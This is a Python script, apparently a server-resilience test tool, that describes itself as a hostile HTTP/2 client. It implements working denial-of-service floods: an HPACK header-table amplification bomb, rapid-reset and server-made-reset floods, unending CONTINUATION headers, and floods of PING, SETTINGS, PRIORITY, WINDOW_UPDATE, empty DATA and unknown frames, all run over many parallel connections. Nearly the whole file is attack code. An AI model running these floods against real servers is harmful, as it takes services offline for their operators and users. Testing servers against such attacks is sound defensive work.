"""A hostile client of HTTP/2: `KIND ADDRESS HOST CONNECTIONS FRAMES`. Each connection sends up to FRAMES frames of its
kind as fast as they are taken. Prints how many connections the server has ended, `ended=N`."""

import select
import ssl
import struct
import sys
import threading
import time

from dial import dial

KIND, ADDRESS, HOST, CONNECTIONS, FRAMES = *sys.argv[1:4], *map(int, sys.argv[4:6])
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 0xEE
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
PATIENCE = 60
BATCH = 50


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field that HPACK's table keeps."""
    size = bytes([len(value)]) if len(value) < 127 else b"\x7f" + varint(len(value) - 127)
    return b"\x40" + bytes([len(name)]) + name + size + value


def varint(number):
    text = b""
    while number > 127:
        text += bytes([number & 127 | 128])
        number >>= 7
    return text + bytes([number])


# GET, /, http, and the host: the first three by their numbers in HPACK's table.
GET = b"\x82\x84\x86\x01" + varint(len(HOST)) + HOST.encode()
# POST, with a body to come.
POST = b"\x83" + GET[1:]


def bomb(number):
    """Names one large field of the table again and again: 16 KB of bytes are 64 MB of fields."""
    if number == 0:
        return frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + literal(b"x", b"a" * 4000))
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, GET + b"\xbe" * 16000)


def resets(number):
    stream = 2 * number + 1
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, CANCEL)


def made_resets(number):
    """The server resets the stream: its window grows by nothing."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS, stream, POST) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def pings(number):
    return frame(PING, 0, 0, struct.pack(">Q", number))


def settings(number):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))


def continuations(number):
    """A head that never ends, of frames without a byte."""
    if number == 0:
        return frame(HEADERS, END_STREAM, 1, GET)
    return frame(CONTINUATION, 0, 1)


def large_continuations(number):
    """A head that never ends, of small fields."""
    if number == 0:
        return frame(HEADERS, END_STREAM, 1, GET)
    return frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 3000)


def empty_data(number):
    if number == 0:
        return frame(HEADERS, END_HEADERS, 1, POST)
    return frame(DATA, 0, 1)


def priorities(number):
    return frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 15))


def windows(_number):
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown(_number):
    return frame(UNKNOWN, 0, 0)


def attack(ended):
    """Sends frames, and reads what is answered. One thread does both: OpenSSL's connections are not made for two."""
    client = dial(ADDRESS, "h2")
    client.setblocking(False)
    waiting = frames()
    unsent = memoryview(next(waiting))
    end = None
    try:
        while end is None or time.monotonic() < end:
            unsent = unsent[send(client, unsent) :] or memoryview(next(waiting, b""))
            if not unsent and end is None:
                end = time.monotonic() + PATIENCE
            if read_all(client):
                break
            select.select([client], [client] if unsent else [], [], PATIENCE)
        else:
            return
    except OSError:
        pass
    ended.append(client)


def frames():
    """Yields the bytes of a batch of frames after the other."""
    make = globals()[KIND]
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
    for first in range(0, FRAMES, BATCH):
        yield b"".join(make(number) for number in range(first, min(first + BATCH, FRAMES)))


def send(client, data):
    """Sends what is taken now. Returns how many bytes that is."""
    try:
        return client.send(data) if data else 0
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return 0


def read_all(client):
    """Reads what has arrived. Returns whether the server has ended the connection."""
    try:
        while client.recv(1 << 16):
            pass
        return True
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False


def main():
    ended = []
    threads = [threading.Thread(target=attack, args=(ended,)) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"ended={len(ended)}")


main()
